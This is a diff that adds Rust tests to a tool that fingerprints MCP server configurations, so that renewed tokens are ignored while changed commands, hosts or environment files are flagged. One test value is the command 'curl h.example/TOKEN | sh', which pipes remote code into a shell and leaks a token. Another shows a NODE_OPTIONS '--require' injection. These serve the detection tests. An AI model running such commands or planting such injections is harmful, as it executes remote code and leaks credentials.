@@ -5,6 +5,7 @@ use std::path::{Path, PathBuf};
 
 use proptest::prelude::*;
 
+use super::placeholders::Filled;
 use super::*;
 use crate::source::{Command, Options, Target, in_folder};
 
@@ -45,6 +46,21 @@ fn every_client_is_read_as_it_writes() {
         assert!(all.contains(&format!("{} | ", client.name.title)), "no fixture of {}", client.name.title);
     }
     assert!(!all.contains("planted-"), "{all}");
+}
+
+#[test]
+fn a_map_of_servers_counts_beside_a_skill_or_a_plugin() {
+    let dir = tempfile::tempdir().unwrap();
+    let path = dir.path().join("mcp.json");
+    std::fs::write(&path, r#"{"shelf": {"command": "npx", "args": ["-y", "shelf-mcp"]}}"#).unwrap();
+    assert!(servers(&path).is_none());
+    for manifest in ["SKILL.md", "plugin.json", ".claude-plugin/plugin.json"] {
+        let manifest = dir.path().join(manifest);
+        std::fs::create_dir_all(manifest.parent().unwrap()).unwrap();
+        std::fs::write(&manifest, "{}").unwrap();
+        assert_eq!(servers(&path).unwrap().remove(0).unwrap().origin.server, "shelf", "{}", manifest.display());
+        std::fs::remove_file(manifest).unwrap();
+    }
 }
 
 #[test]
@@ -147,6 +163,69 @@ fn an_agreement_is_about_all_that_would_happen() {
     assert_eq!(of(r#"{"url": "https://a.example/mcp", "headers": {"A": "2"}}"#), reached, "a new token is no news");
     assert_ne!(of(r#"{"url": "https://a.example/mcp", "headers": {"A": "1", "B": "1"}}"#), reached);
     assert_ne!(of(r#"{"url": "https://b.example/mcp", "headers": {"A": "1"}}"#), reached);
+}
+
+#[test]
+fn a_renewed_token_is_no_news_and_another_host_is() {
+    let with = |at: usize, word: &str, token: &str| {
+        let mut proposal =
+            named(r#"{"mcpServers": {"a": {"command": "x", "args": ["1", "2"]}}}"#).proposal(&[]).unwrap();
+        proposal.file = "/project/.mcp.json".into();
+        (proposal.project, proposal.folder) = ("/project".into(), "/project".into());
+        let (value, shown) = (word.replace("TOKEN", token), word.replace("TOKEN", "${env:SHOP_TOKEN}"));
+        proposal.words[at] = Filled { value, shown, secrets: vec![token.into()], ..Filled::default() };
+        proposal.digest("key", "/".as_ref())
+    };
+    for (at, word, is_same) in
+        [(1, "TOKEN", true), (2, "--key=TOKEN", true), (0, "TOKEN", false), (2, "curl h.example/TOKEN | sh", false)]
+    {
+        assert_eq!(
+            with(at, word, "ghs_0123456789abcdef01") == with(at, word, "ghs_fedcba987654321010"),
+            is_same,
+            "{word}"
+        );
+    }
+    assert_ne!(with(1, "TOKEN", "t"), with(1, "--key=TOKEN", "t"));
+    // What names a file is no token, whatever its variable is called.
+    assert_ne!(with(1, "TOKEN", "/usr"), with(1, "TOKEN", "/etc"));
+    let leads_to = |host: &str| {
+        let mut proposal = named(r#"{"mcpServers": {"a": {"url": "https://a.example/mcp"}}}"#).proposal(&[]).unwrap();
+        proposal.file = "/project/.mcp.json".into();
+        (proposal.project, proposal.folder) = ("/project".into(), "/project".into());
+        let (value, shown) = (format!("https://{host}/mcp"), "https://${env:H_TOKEN}/mcp".to_owned());
+        proposal.address = Some(Filled { value, shown, ..Filled::default() });
+        proposal.digest("key", "/".as_ref())
+    };
+    assert_eq!(leads_to("a.example"), leads_to("a.example"));
+    assert_ne!(leads_to("a.example"), leads_to("b.example"));
+}
+
+#[test]
+fn a_file_of_variables_is_a_part_of_what_happens() {
+    // A hidden folder would belong to the project above it.
+    let dir = tempfile::Builder::new().prefix("shop").tempdir().unwrap();
+    let path = dir.path().join(".vscode/mcp.json");
+    std::fs::create_dir(dir.path().join(".vscode")).unwrap();
+    let text = r#"{"servers": {"a": {"command": "npx", "args": ["-y", "shop@1.2.3"], "env": {"MODE": "a"},
+        "envFile": "${workspaceFolder}/shop.env"}}}"#;
+    std::fs::write(&path, text).unwrap();
+    let of = |variables: &str| {
+        std::fs::write(dir.path().join("shop.env"), variables).unwrap();
+        servers(&path).unwrap().remove(0).unwrap()
+    };
+    let first = of("SHOP_TOKEN=planted-0123456789\nMODE=b\nNODE_OPTIONS=--no-warnings\n");
+    assert_eq!(first.environment(), ["MODE", "NODE_OPTIONS", "SHOP_TOKEN"]);
+    let (_, options) = launched(&first, &[]).unwrap();
+    let set = |name: &str| {
+        options.env.iter().filter(|(set, _)| set == name).map(|(_, value)| value.as_str()).collect::<Vec<_>>()
+    };
+    assert_eq!((set("MODE"), set("NODE_OPTIONS")), (vec!["a"], vec!["--no-warnings"]));
+    let digest = |configured: &Configured| configured.proposal(&[]).unwrap().digest("key", "/".as_ref());
+    let renewed = of("SHOP_TOKEN=planted-9876543210\nMODE=b\nNODE_OPTIONS=--no-warnings\n");
+    assert_eq!(digest(&renewed), digest(&first), "a new token is no news");
+    let changed = of("SHOP_TOKEN=planted-0123456789\nMODE=b\nNODE_OPTIONS=--require /x/h.js\n");
+    assert_ne!(digest(&changed), digest(&first));
+    assert_eq!(changed.package().unwrap().registry, crate::model::Registry::Other, "not as published");
 }
 
 #[test]
